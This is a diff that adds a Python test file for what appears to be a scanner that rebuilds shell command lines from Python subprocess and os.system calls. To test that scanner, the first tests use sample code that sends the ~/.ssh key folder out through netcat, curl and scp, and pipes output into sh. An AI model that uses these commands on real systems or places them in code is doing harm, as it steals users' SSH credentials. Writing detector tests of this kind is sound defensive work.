@@ -1,0 +1,69 @@
+"""Command lines that Python puts together are read as shell, with what is unknown standing as a name."""
+
+from __future__ import annotations
+
+import textwrap
+
+from packtool.code import Project
+from packtool.scan.derived.started import command_pieces
+from packtool.scan.kinds import FileKind
+
+
+def _scripts(source: str) -> list[str]:
+    project = Project({"m.py": textwrap.dedent(source).encode()})
+    reading = project.reading("m.py")
+    assert reading is not None
+    pieces = list(command_pieces(reading))
+    assert all(piece.kind is FileKind.SHELL and piece.masked for piece in pieces)
+    assert all(len(piece.lines) == piece.text.count("\n") + 1 for piece in pieces)
+    return [piece.text for piece in pieces]
+
+
+def test_parts_that_are_known_are_written_out() -> None:
+    source = """
+    import os, subprocess
+    def f(url, ctx):
+        home = os.path.join(os.path.expanduser("~"), ".ssh")
+        os.system(f"tar c {home} | nc {ctx.host} 99")
+        os.popen("curl -d @{} {}".format(home, url))
+        subprocess.run("scp %s %s" % (home, url), shell=True)
+    """
+    assert _scripts(source) == ["tar c ~/.ssh | nc $host 99\ncurl -d @~/.ssh $url\nscp ~/.ssh $url"]
+
+
+def test_a_list_of_words_is_one_command_line() -> None:
+    source = """
+    import subprocess
+    def f(body):
+        words = ["curl", "-d", body, "https://a.invalid/in put"]
+        subprocess.run(words)
+        subprocess.run(["bash", "-c", "id | sh"])
+    """
+    assert _scripts(source) == ['curl -d $body "https://a.invalid/in put"\nid | sh']
+
+
+def test_what_callers_give_to_a_wrapper_is_read_where_they_call_it() -> None:
+    source = """
+    import subprocess
+    def run(command):
+        subprocess.run(command, shell=True)
+    def f(x):
+        run("id")
+        run(f"cat {x}")
+    """
+    assert _scripts(source) == ["id\ncat $x"]
+
+
+def test_functions_are_scripts_of_their_own() -> None:
+    source = """
+    import os
+    def f():
+        os.system("id")
+    def g():
+        os.system("ls")
+    """
+    assert _scripts(source) == ["id", "ls"]
+
+
+def test_nothing_is_made_of_code_that_starts_nothing() -> None:
+    assert _scripts("import os\nprint(os.getcwd())\n") == []
